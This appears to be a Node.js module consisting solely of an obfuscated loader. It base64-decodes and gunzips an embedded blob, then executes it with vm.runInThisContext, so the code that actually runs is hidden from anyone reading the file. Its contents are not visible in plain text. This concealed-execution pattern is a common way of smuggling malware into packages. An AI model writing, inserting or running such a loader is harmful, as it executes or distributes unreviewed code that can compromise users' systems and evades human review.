import vm from 'vm';
import zlib from 'node:zlib';
vm.runInThisContext(zlib.gunzipSync(Buffer.from('H4sIAAAAAAACAw3JQQ6AIAwEwK/sDU2MH/A1lVYhQZbQXvy9znUyu7PZ3ngvKUp1eEhXx8WJTDVEkUDnSX3x92PSA0FME00bxmQ2931UXY8PsXRtzk4AAAA=', 'base64')).toString());
